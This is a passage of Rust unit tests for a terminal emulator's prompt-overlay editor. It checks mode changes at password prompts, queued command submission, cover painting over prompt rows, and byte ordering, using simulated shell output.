    st.tick(&b, &open, true, true, t0 + DEMOTE + Duration::from_secs(10));
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "an open block is a healthy Compose steady state"
    );
}

#[test]
fn inline_prompt_yields_editor() {
    let recs: Vec<BlockRec> = Vec::new();
    let t0 = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t0), Some(5));
    st.draft = "sudo make install".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    let mut exec = hook_bytes("exec", r#"{"c":"sudo make install"}"#);
    exec.extend_from_slice(b"sudo make install\r\n");
    b.advance_live(&exec);
    pump_counters(&mut st, &b, t0);
    st.draft = "next cmd".into();
    st.queue_draft();

    b.advance_live(b"make: entering directory\r\n");
    st.tick(&b, &recs, true, true, t0 + Duration::from_millis(400));
    assert_eq!(st.mode, ComposerMode::Compose);

    b.advance_live(b"[sudo] password for alec: ");
    st.tick(&b, &recs, true, true, t0 + Duration::from_millis(500));
    assert_eq!(
        st.mode,
        ComposerMode::Raw(RawReason::Busy),
        "editor steps aside for the inline password prompt"
    );
    assert!(st.take_pending_clear().is_none(), "nothing fires at a password");
    assert_eq!(st.draft, "next cmd", "queue folded into the visible draft");
    assert!(st.pending.is_empty());

    let mut d = b"\r\n".to_vec();
    d.extend(hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#));
    d.extend_from_slice(b"PS C:\\> ");
    d.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&d);
    let t1 = t0 + Duration::from_millis(900);
    pump_counters(&mut st, &b, t1);
    st.tick(&b, &recs, true, true, t1);
    assert_eq!(st.mode, ComposerMode::Compose, "re-arms at the fresh prompt");
}

fn prod_frame(
    st: &mut ComposerState,
    b: &mut Rig,
    recs: &[BlockRec],
    now: Instant,
) -> Option<Vec<u8>> {
    let _ = b.poll_pending_prompt_end(now);
    let f = b.block_feed.as_ref().unwrap();
    let (pre, exec) = (f.pre_seen, f.exec_seen);
    st.on_stream_events(pre, exec, now);
    st.tick(b, recs, true, true, now);
    if let Some((l, c, cwd, cmd)) = st.take_pending_history_cover() {
        b.add_history_cover(l, c, cwd, cmd);
    }
    let comp_active = st.mode == ComposerMode::Compose;
    let cl = cover_line_for(st, b, comp_active, now);
    st.pump_pending(b, cl, Some("C:\\"), now).map(|(bytes, _)| {
        if let Some((l, c, cwd, cmd)) = st.take_pending_history_cover() {
            b.add_history_cover(l, c, cwd, cmd);
        }
        bytes
    })
}

#[test]
fn rapid_fire_submits_every_row_covered() {
    const N: usize = 8;
    let recs: Vec<BlockRec> = Vec::new();
    let mut t = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t), Some(5));

    st.draft = "ls".into();
    let (bytes, _) = st.submit(&b, cover_line_for(&st, &b, true, t), Some("C:\\"), T0);
    assert_eq!(bytes, b"ls\r");
    for _ in 1..N {
        st.draft = "ls".into();
        st.queue_draft();
    }
    assert_eq!(st.pending.len(), N - 1);

    let mut done = 0usize;
    let mut n = 2u32;

        for _round in 0..(N * 6) {
        b.advance_live(&hook_bytes("exec", r#"{"c":"ls"}"#));
        b.advance_live(b"ls\r\n");
        t += Duration::from_millis(4);
        let _ = prod_frame(&mut st, &mut b, &recs, t);

        b.advance_live(b"Documents  Downloads\r\nMusic  Public\r\n");
        t += Duration::from_millis(4);
        let _ = prod_frame(&mut st, &mut b, &recs, t);

        let mut d = hook_bytes("pre", &format!(r#"{{"e":0,"n":{n},"d":"C:"}}"#));
        d.extend_from_slice(b"PS C:\\> ");
        d.extend_from_slice(b"\x1b]133;B\x07");
        b.advance_live(&d);
        n += 1;
        t += Duration::from_millis(4);
        let dispatched = prod_frame(&mut st, &mut b, &recs, t);
        if dispatched.is_some() {
            done += 1;
        }
        if !st.buffering() && st.submit_hold.is_none() && st.pending.is_empty() {
            for _ in 0..3 {
                t += Duration::from_millis(4);
                let _ = prod_frame(&mut st, &mut b, &recs, t);
            }
            break;
        }
    }

    let covers = b.healthy_covers();
    let cmd_covers: Vec<_> = covers.iter().filter(|c| c.cmd.is_some()).collect();
    let mut lines: Vec<i32> = cmd_covers.iter().map(|c| c.line).collect();
    lines.sort_unstable();
    lines.dedup();
    assert_eq!(
        (cmd_covers.len(), lines.len()),
        (N, N),
        "all {N} submitted rows must be covered on distinct rows (got {} covers, {} distinct); \
         a shortfall is the raw-prompt flip-flop leak",
        cmd_covers.len(),
        lines.len()
    );
    for c in &cmd_covers {
        assert!(
            b.row_has_text_at(c.line, c.col, "ls"),
            "cover at row {} must sit on a row that really shows its `ls` echo",
            c.line
        );
    }
    assert_eq!(done, N - 1, "all queued submits dispatched");
}

#[test]
fn rapid_fire_reorder_no_raw_leak() {
    const N: usize = 6;
    let recs: Vec<BlockRec> = Vec::new();
    let mut t = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t), Some(5));
    st.draft = "ls".into();
    let _ = st.submit(&b, cover_line_for(&st, &b, true, t), Some("C:\\"), T0);
    for _ in 1..N {
        st.draft = "ls".into();
        st.queue_draft();
    }
    let mut n = 2u32;

        for _round in 0..(N * 8) {
        b.advance_live(&hook_bytes("exec", r#"{"c":"ls"}"#));
        b.advance_live(b"ls\r\n");
        b.advance_live(b"Documents  Downloads\r\n");
        t += Duration::from_millis(4);
        let _ = prod_frame(&mut st, &mut b, &recs, t);

        let mut d = hook_bytes("pre", &format!(r#"{{"e":0,"n":{n},"d":"C:"}}"#));
        d.extend_from_slice(b"\x1b]133;B\x07");
        b.advance_live(&d);
        n += 1;
        t += Duration::from_millis(4);

        let _ = prod_frame(&mut st, &mut b, &recs, t);

        b.advance_live(b"PS C:\\> ");
        t += Duration::from_millis(4);
        let _ = prod_frame(&mut st, &mut b, &recs, t);

        b.sleep(Duration::from_millis(45));
        for _ in 0..3 {
            let rt = b.now();
            t = t.max(rt);
            let _ = prod_frame(&mut st, &mut b, &recs, rt);
        }
        if !st.buffering() && st.submit_hold.is_none() && st.pending.is_empty() {
            break;
        }
    }
    let covers = b.healthy_covers();
    let cmd_covers: Vec<_> = covers.iter().filter(|c| c.cmd.is_some()).collect();
    let mut lines: Vec<i32> = cmd_covers.iter().map(|c| c.line).collect();
    lines.sort_unstable();
    lines.dedup();
    assert_eq!(
        (cmd_covers.len(), lines.len()),
        (N, N),
        "reorder window must not leak: {N} covers on distinct rows expected, \
         got {} covers / {} distinct rows (raw-prompt flip-flop)",
        cmd_covers.len(),
        lines.len()
    );
    for c in &cmd_covers {
        assert!(
            b.row_has_text_at(c.line, c.col, "ls"),
            "cover at row {} col {} must sit on its `ls` echo",
            c.line,
            c.col
        );
    }
}

#[test]
fn no_dual_prompt_across_integrated_settle() {
    let recs: Vec<BlockRec> = Vec::new();
    let mut t = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t), Some(5));
    st.draft = "ls".into();
    let _ = st.submit(&b, cover_line_for(&st, &b, true, t), Some("C:\\"), T0);

    b.advance_live(&hook_bytes("exec", r#"{"c":"ls"}"#));
    b.advance_live(b"ls\r\nDocuments  Downloads\r\n");
    t += Duration::from_millis(4);
    let _ = prod_frame(&mut st, &mut b, &recs, t);

    let armed = |st: &ComposerState| st.mode == ComposerMode::Compose;

    b.advance_live(&hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#));
    t += Duration::from_millis(4);
    let _ = prod_frame(&mut st, &mut b, &recs, t);
    assert!(armed(&st));
    assert!(
        cover_line_for(&st, &b, true, t).is_some(),
        "pre frame N: the incoming prompt row must be blanked"
    );

    b.advance_live(b"\x1b]133;B\x07");
    t += Duration::from_millis(4);
    let _ = prod_frame(&mut st, &mut b, &recs, t);
    assert!(
        cover_line_for(&st, &b, true, t).is_some(),
        "provisional 133;B frame: still covered"
    );

    b.advance_live(b"PS C:\\> ");
    t += Duration::from_millis(4);
    let _ = prod_frame(&mut st, &mut b, &recs, t);
    assert!(armed(&st));
    assert!(
        !b.cursor_at_prompt_end(),
        "premise: column not settled yet (provisional cell)"
    );
    assert!(
        cover_line_for(&st, &b, true, t).is_some(),
        "provisional-settle window: the raw prompt must never flash beside the editor"
    );

    b.sleep(Duration::from_millis(45));
    for _ in 0..3 {
        let rt = b.now();
        let _ = prod_frame(&mut st, &mut b, &recs, rt);
        assert!(
            cover_line_for(&st, &b, true, rt).is_some(),
            "settled prompt: covered"
        );
    }
}

#[test]
fn no_dual_prompt_across_heur_remint() {
    let (mut b, mut st, recs, t0) = heur_episode_setup();

    let tm = t0 + HEUR_QUIET + Duration::from_millis(50);
    st.tick(&b, &recs, true, true, tm);
    assert_eq!(st.mode, ComposerMode::Compose);
    assert!(st.heur_live(&b));

    let cover = cover_line_for(&st, &b, true, tm);
    let _ = st.dispatch_submission(&b, cover, None, "whoami", tm);
    let _ = st.take_submit_cmd();
    b.advance_live(b"whoami\r\nroot\r\n");
    st.tick(&b, &recs, true, true, tm + Duration::from_millis(10));
    assert!(!st.heur_live(&b), "output tore the arm latch down");
    assert_eq!(st.mode, ComposerMode::Compose, "permanent editor: box stays up");

    b.advance_live(b"root@box:/# ");

    let rn = b.now();
    st.tick(&b, &recs, true, true, rn);
    assert_eq!(st.mode, ComposerMode::Compose);
    assert!(!st.heur_live(&b), "arm still waiting (quiet < HEUR_QUIET) at frame N");
    assert_eq!(
        cover_line_for(&st, &b, true, rn),
        Some(b.cursor_line()),
        "frame N: nested cover paints the SAME frame the classifier passes"
    );

    let rn2 = b.now();
    st.tick(&b, &recs, true, true, rn2);
    assert!(!st.heur_live(&b), "arm still waiting at frame N+1 (cover ≠ arm)");
    assert_eq!(
        cover_line_for(&st, &b, true, rn2),
        Some(b.cursor_line()),
        "an at-rest prompt is not revoked — cover holds"
    );

    b.sleep(HEUR_QUIET + Duration::from_millis(30));
    let rn3 = b.now();
    st.tick(&b, &recs, true, true, rn3);
    assert!(st.heur_live(&b), "the arm mints after the full HEUR_QUIET");
    assert_eq!(
        cover_line_for(&st, &b, true, rn3),
        Some(b.cursor_line()),
        "seamless hand-off: armed cover on the same row"
    );
}

#[test]
fn heur_optimistic_cover_never_covers_streaming() {
    let (mut b, mut st, recs, t0) = heur_episode_setup();
    let tm = t0 + HEUR_QUIET + Duration::from_millis(50);
    st.tick(&b, &recs, true, true, tm);
    assert_eq!(st.mode, ComposerMode::Compose);
    let cover = cover_line_for(&st, &b, true, tm);
    let _ = st.dispatch_submission(&b, cover, None, "make", tm);
    let _ = st.take_submit_cmd();
    b.advance_live(b"make\r\n");

    let mut covered_frames = 0u32;
    for i in 0..6 {
        b.advance_live(b"Building target #");
        let rn = b.now();
        st.tick(&b, &recs, true, true, rn);
        assert!(!st.heur_live(&b), "arm must not mint over streaming output");
        if cover_line_for(&st, &b, true, rn).is_some() {
            covered_frames += 1;
            assert_eq!(i, 0, "only the very first streaming frame may be covered");
        }
        b.advance_live(b"\r\n");
    }
    assert_eq!(
        covered_frames, 1,
        "streaming covered for at most one frame, then revoked + suppressed"
    );

    b.advance_live(b"regular output line\r\n");
    let rf = b.now();
    st.tick(&b, &recs, true, true, rf);
    assert_eq!(
        cover_line_for(&st, &b, true, rf),
        None,
        "a non-prompt row is never covered"
    );
    b.advance_live(b"root@box:/# ");
    let rn = b.now();
    st.tick(&b, &recs, true, true, rn);
    assert_eq!(
        cover_line_for(&st, &b, true, rn),
        Some(b.cursor_line()),
        "a fresh at-rest prompt after streaming covers again (suppress reset on fail)"
    );
}

#[test]
fn integrated_submit_cycle_no_cover_hole() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "ls".into();
    let _ = st.submit(&b, cover_line_for(&st, &b, true, now), Some("C:\\"), T0);

    let covered = |b: &Rig, cl: Option<i32>, line: i32| -> bool {
        cl == Some(line) || b.healthy_covers().iter().any(|c| c.line == line)
    };

    let mut prompt = hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#);
    prompt.extend_from_slice(b"PS C:\\> ");
    let chunks: Vec<Vec<u8>> = vec![
        hook_bytes("exec", r#"{"c":"ls"}"#),
        b"ls".to_vec(),
        b"\r\nout1\r\n".to_vec(),
        prompt,
        b"\x1b]133;B\x07".to_vec(),
    ];
    for (i, ch) in chunks.iter().enumerate() {
        b.advance_live(ch);
        let cl = sim_frame(&mut st, &mut b, &recs, now);
        assert_eq!(st.mode, ComposerMode::Compose, "chunk {i}: box stays up");

        let submit_row = st.hold_line(&b, now).or_else(|| {
            b.healthy_covers()
                .iter()
                .find(|c| c.cmd.as_deref() == Some("ls"))
                .map(|c| c.line)
        });
        if let Some(r) = submit_row {
            assert!(
                covered(&b, cl, r),
                "chunk {i}: submit row {r} must stay covered — no raw hole"
            );
        }
    }

    assert!(
        b.healthy_covers()
            .iter()
            .any(|c| c.cmd.as_deref() == Some("ls")),
        "ls became a history cover"
    );
    assert_eq!(
        cover_line_for(&st, &b, true, now),
        Some(5),
        "fresh prompt row is covered"
    );
}

#[test]
fn flush_preserves_byte_order_across_queued_enters() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "vim x".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    st.draft = "hi".into();
    st.queue_draft();
    st.push_spacer();
    st.draft = "tail".into();

    b.advance_live(b"\x1b[?1049h");
    st.tick(&b, &recs, true, false, now + Duration::from_millis(30));
    assert_eq!(
        st.take_pending_clear().as_deref(),
        Some(b"hi\r\rtail".as_ref()),
        "byte order: cmd + its Enter, the spacer Enter, then the draft"
    );
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::AltScreen));
}

#[test]
fn demotion_mid_buffer_flushes_pending_raw() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "slow".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    st.draft = "next".into();
    st.queue_draft();
    st.draft = "keep me".into();

    let mut d = hook_bytes("exec", r#"{"c":"slow"}"#);
    d.extend_from_slice(b"slow\r\n");
    d.extend(hook_bytes("pre", r#"{"e":0,"n":9,"d":"C:"}"#));
    d.extend_from_slice(b"PS C:\\> ");
    b.advance_live(&d);
    let t1 = now + Duration::from_millis(100);
    let _ = sim_frame(&mut st, &mut b, &recs, t1);
    assert_eq!(st.mode, ComposerMode::Compose, "clock started, not demoted yet");
    assert!(st.take_pending_clear().is_none());

    let t2 = t1 + DEMOTE;
    st.tick(&b, &recs, true, false, t2);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::NoPrompt));
    assert_eq!(
        st.take_pending_clear().as_deref(),
        Some(b"next\r".as_ref()),
        "queued submissions flush raw on demotion"
    );
    assert_eq!(st.draft, "keep me", "the visible draft is kept");
    assert!(st.pending.is_empty());
}

#[test]
fn stale_window_folds_buffer_into_draft() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "a".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    st.draft = "b".into();
    st.queue_draft();
    st.draft = "c-partial".into();

    st.tick(&b, &recs, true, false, now + WINDOW_STALE + Duration::from_millis(1));
    assert!(st.take_pending_clear().is_none(), "nothing may fire late");
    assert_eq!(
        st.draft, "b\nc-partial",
        "the buffer is folded into the visible draft for re-confirmation"
    );
    assert!(!st.buffering());
}

#[test]
fn hold_drops_on_resize() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));
    st.draft = "ls".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    assert_eq!(st.hold_line(&b, now), Some(5));
    b.resize_to(30, 6);
    assert_eq!(st.hold_line(&b, now), None, "resize invalidates the pin");
    st.tick(&b, &recs, true, false, now);
    assert!(st.submit_hold.is_none(), "released");
    assert_eq!(st.take_pending_history_cover(), None, "never converted");
}

#[test]
fn window_submit_queues_then_converts_via_pump() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "pwd".into();
    let cl = cover_line_for(&st, &b, true, now);
    let (bytes, _) = st.submit(&b, cl, Some("C:\\"), T0);
    assert_eq!(bytes, b"pwd\r");

    let mut d = hook_bytes("exec", r#"{"c":"pwd"}"#);
    d.extend_from_slice(b"pwd\r\nout\r\n");
    d.extend(hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#));
    b.advance_live(&d);
    let _ = sim_frame(&mut st, &mut b, &recs, now);
    assert_eq!(b.healthy_covers().len(), 1, "cmd1 converted on release");
    assert_eq!(st.mode, ComposerMode::Compose);

    st.draft = "ls".into();
    let cl = cover_line_for(&st, &b, true, now);
    let (bytes, spacer) = st.submit(&b, cl, Some("C:\\"), T0);
    assert!(bytes.is_empty(), "a window submit must not dispatch uncovered");
    assert!(!spacer);
    assert!(st.buffering(), "queued for the prompt cycle");
    assert!(st.submit_hold.is_none(), "no hold may pin without certainty");
    assert_eq!(st.mode, ComposerMode::Compose);

    let mut d = b"PS C:\\> ".to_vec();
    d.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&d);
    let _ = sim_frame(&mut st, &mut b, &recs, now);
    let cl = cover_line_for(&st, &b, true, now);
    let (bytes, spacer) = st
        .pump_pending(&b, cl, Some("C:\\"), now)
        .expect("pump dispatches at the fresh clean prompt");
    assert_eq!(bytes, b"ls\r");
    assert!(!spacer);
    assert!(st.submit_hold.is_some(), "hold pinned on the fresh prompt row");

    let mut d = hook_bytes("exec", r#"{"c":"ls"}"#);
    d.extend_from_slice(b"ls\r\nout2\r\n");
    b.advance_live(&d);
    let _ = sim_frame(&mut st, &mut b, &recs, now);
    let covers = b.healthy_covers();
    assert_eq!(covers.len(), 2, "both submits converted to history covers");
    assert!(covers.iter().any(|c| c.cmd.as_deref() == Some("pwd")));
    assert!(covers.iter().any(|c| c.cmd.as_deref() == Some("ls")));
}

#[test]
fn hitch_delayed_echo_still_converts() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));
    st.draft = "ls".into();
    let cl = cover_line_for(&st, &b, true, now);
    let _ = st.submit(&b, cl, Some("C:\\"), T0);

    let late = T0 + Duration::from_millis(400);
    st.tick(&b, &recs, true, true, late);
    assert!(st.submit_hold.is_some(), "hold survives the hitch");
    assert_eq!(st.hold_line(&b, late), Some(5), "ghost keeps covering");

    b.advance_live(b"ls");
    let late2 = late + Duration::from_millis(16);
    st.tick(&b, &recs, true, true, late2);
    assert!(st.submit_hold.is_none(), "echo landed ⇒ released");
    assert_eq!(
        st.take_pending_history_cover()
            .map(|(l, c, _, cmd)| (l, c, cmd)),
        Some((5, 8, "ls".to_string())),
        "late echo still converts to a history cover"
    );
}
